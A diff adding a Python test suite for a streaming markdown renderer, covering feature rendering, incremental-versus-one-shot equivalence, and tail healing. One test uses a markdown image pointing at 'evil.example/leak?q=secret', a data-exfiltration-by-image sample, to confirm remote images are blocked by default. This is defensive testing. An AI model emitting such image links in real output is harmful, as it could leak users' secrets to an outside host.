@@ -1,0 +1,140 @@
+"""The renderer: features, incremental equivalence, and tail healing."""
+
+from __future__ import annotations
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from claude_nb._heal import heal
+from claude_nb._incremental import IncrementalMarkdown
+from claude_nb._markdown import MarkdownRenderer
+from claude_nb.replay._scenarios import RICH_MARKDOWN
+
+R = MarkdownRenderer()
+
+
+def test_features() -> None:
+    html = R.render(RICH_MARKDOWN)
+    for tag in ("<h1>", "<h2>", "<table>", "<ol>", "<ul>", "<blockquote>", "<s>", "<strong>", "<em>"):
+        assert tag in html
+    assert '<pre><code class="language-python"><span class="k">def</span>' in html
+    assert 'target="_blank"' in html and 'rel="noopener noreferrer nofollow"' in html
+    assert "&lt;b&gt;html&lt;/b&gt;" in html
+
+
+def test_task_lists_and_unknown_fence_language() -> None:
+    html = R.render("- [x] done\n- [ ] todo\n\n```nosuchlang\n<b>x</b>\n```\n")
+    assert 'type="checkbox"' in html
+    assert "&lt;b&gt;x&lt;/b&gt;" in html
+
+
+def test_remote_images_are_placeholders_unless_allowed() -> None:
+    src = "![chart](https://evil.example/leak?q=secret)"
+    html = R.render(src)
+    assert "<img" not in html and "evil.example" in html and "cnb-image-blocked" in html
+    allowed = MarkdownRenderer(allow_remote_images=True).render(src)
+    assert '<img src="https://evil.example/leak?q=secret"' in allowed
+
+
+def _replay(text: str, cuts: list[int], heal_tail: bool = False) -> IncrementalMarkdown:
+    inc = IncrementalMarkdown(R, heal_tail=heal_tail)
+    for cut in cuts:
+        inc.update(text[:cut])
+        if not heal_tail:
+            assert inc.html == R.render(text[:cut]), repr(text[:cut])
+    return inc
+
+
+def test_every_prefix_of_rich_markdown_matches_one_shot() -> None:
+    inc = _replay(RICH_MARKDOWN, list(range(1, len(RICH_MARKDOWN) + 1)))
+    assert len(inc.frozen_html) > 5  # blocks really froze
+    inc.finish(RICH_MARKDOWN)
+    assert inc.html == R.render(RICH_MARKDOWN)
+
+
+def test_known_traps() -> None:
+    for text in (
+        "1. a\n\n2. b\n\n3. c\n",  # ordered list continued after blank lines
+        "Title\n-----\n\ntext\n",  # setext heading
+        "para\n\n```python\nx = 1\n\ny = 2\n```\n\nafter\n",  # fence with blank lines
+        "- a\n- b\n\n  continued\n\nout\n",  # loose list item continuation
+        "| a | b |\n|---|---|\n| 1 | 2 |\n\nnext\n",
+        "> quote\nlazy\n\n# h\n",
+    ):
+        _replay(text, list(range(1, len(text) + 1)))
+
+
+def test_reference_defined_later_settles_at_finish() -> None:
+    text = "see [docs][d]\n\nmore text\n\n[d]: https://example.com\n"
+    inc = _replay(text, list(range(1, len(text) + 1)), heal_tail=True)
+    frame = inc.finish(text)
+    assert frame.reset
+    assert inc.html == R.render(text)
+    assert 'href="https://example.com"' in inc.html
+
+
+BLOCKS = st.sampled_from(
+    [
+        "# Heading\n",
+        "Some *emphasis* and **bold** text.\n",
+        "1. one\n2. two\n",
+        "1. one\n\n2. two after blank\n",
+        "- bullet\n- bullet two\n",
+        "> quoted\n",
+        "```python\nprint('x')\n\n```\n",
+        "| a | b |\n|---|---|\n| 1 | 2 |\n",
+        "Setext\n======\n",
+        "Text\n---\n",
+        "---\n",
+        "    indented code\n",
+        "~~strike~~ and `code`\n",
+        "[link](https://example.com) ![img](https://x.example/i.png)\n",
+        "\n",
+        "plain line\n",
+        "<div>raw</div>\n",
+        "- [ ] task\n",
+    ]
+)
+
+
+@settings(max_examples=60, deadline=None)
+@given(blocks=st.lists(BLOCKS, min_size=1, max_size=8), data=st.data())
+def test_incremental_equals_one_shot_at_random_splits(blocks: list[str], data: st.DataObject) -> None:
+    text = "".join(blocks)
+    cuts = [*sorted(set(data.draw(st.lists(st.integers(1, len(text)), max_size=25)))), len(text)]
+    inc = _replay(text, cuts)
+    inc.finish(text)
+    assert inc.html == R.render(text)
+
+
+@settings(max_examples=40, deadline=None)
+@given(blocks=st.lists(BLOCKS, min_size=1, max_size=6), data=st.data())
+def test_healed_updates_settle_to_one_shot(blocks: list[str], data: st.DataObject) -> None:
+    text = "".join(blocks)
+    cuts = [*sorted(set(data.draw(st.lists(st.integers(1, len(text)), max_size=25)))), len(text)]
+    inc = _replay(text, cuts, heal_tail=True)
+    inc.finish(text)
+    assert inc.html == R.render(text)
+
+
+def test_heal_closes_and_hides() -> None:
+    assert heal("Hello **bol") == "Hello **bol**"
+    assert heal("a *it") == "a *it*"
+    assert heal("x `code") == "x `code`"
+    assert heal("pick ~~no") == "pick ~~no~~"
+    assert heal("see [the docs](https://exa") == "see the docs"
+    assert heal("see ![chart](https://exa") == "see "
+    assert heal("Text\n--") == "Text"
+    assert heal("a <di") == "a "
+    assert heal("snake_case_name") == "snake_case_name"
+    assert heal("2 * 3 = 6") == "2 * 3 = 6"
+    assert heal("ends with **") == "ends with "
+    fence = '```py\nx = "**"'
+    assert heal(fence) == fence
+
+
+def test_heal_never_flashes_raw_syntax() -> None:
+    text = "Read **the [manual](https://example.com/manual)** now."
+    for cut in range(1, len(text) + 1):
+        html = R.render(heal(text[:cut]))
+        assert "](" not in html and "**" not in html, text[:cut]
